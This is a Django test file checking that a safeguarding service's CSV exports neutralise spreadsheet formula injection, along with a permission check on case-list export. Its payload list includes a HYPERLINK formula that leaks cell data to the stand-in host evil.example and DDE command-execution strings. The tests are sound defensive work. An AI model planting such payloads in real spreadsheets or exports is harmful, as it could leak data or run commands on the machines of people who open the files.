"""What leaves the service in a spreadsheet cannot run there: any value a spreadsheet would
read as a formula (starting =, +, -, @, a tab or a carriage return) comes out as text."""

import csv
import io
from datetime import date

import pytest
from django.test import Client
from django.urls import reverse

from safeguarding.accounts.roles import Role
from safeguarding.cases.models import Case
from safeguarding.contributions import services as contributions
from safeguarding.exports import csv_bytes, neutralise

from ..helpers import verified_client

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_is_written_as_text(payload):
    assert neutralise(payload) == "'" + payload
    content, count = csv_bytes(["Value"], [[payload]])
    (row,) = list(csv.reader(io.StringIO(content.decode())))[1:]
    assert row == ["'" + payload] and count == 1


def test_ordinary_values_are_left_alone():
    assert neutralise("Child A") == "Child A"
    assert neutralise("") == "" and neutralise(None) == ""
    assert neutralise(7) == 7 and neutralise(date(2026, 1, 2)) == date(2026, 1, 2)
    assert neutralise("2026-01-02") == "2026-01-02"  # a date as text is not a formula


def cells(response):
    return [cell for row in csv.reader(io.StringIO(response.decode())) for cell in row]


def test_case_list_and_chronology_exports_are_inert(notified_case, partners, fetch_file):
    pdeo = partners["pdeo"]
    Case.objects.filter(pk=notified_case.pk).update(pseudonym=PAYLOADS[0])
    (request,) = contributions.send_requests(
        case=notified_case, user=pdeo, agencies=[partners["police"]], questions="q"
    )
    author = partners["police_contributor"]
    contributions.save_response(request=request, user=author, expected_version=1, summary="s")
    for payload in PAYLOADS:
        contributions.add_entry(
            request=request,
            user=author,
            date=date(2026, 10, 1),
            what_happened=payload,
            who=payload,
            significance=payload,
        )
    contributions.submit_response(request=request, user=author)
    contributions.accept_response(request=request, user=pdeo)
    client = verified_client(Client(), pdeo)

    exported = fetch_file(client, reverse("cases:export"))
    listed = cells(b"".join(exported.streaming_content))
    assert "'" + PAYLOADS[0] in listed and PAYLOADS[0] not in listed

    chronology = fetch_file(
        client, reverse("requests:chronology_csv", args=[notified_case.reference])
    )
    written = cells(b"".join(chronology.streaming_content))
    for payload in PAYLOADS:
        assert written.count("'" + payload) == 3, payload  # what happened, who, significance
        assert payload not in written
    for cell in written:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_a_panel_member_cannot_export_the_case_list(partners):
    client = verified_client(Client(), partners["police_signer"])
    assert partners["police_signer"].has_role(Role.PANEL_MEMBER)
    assert client.get(reverse("cases:export")).status_code == 403
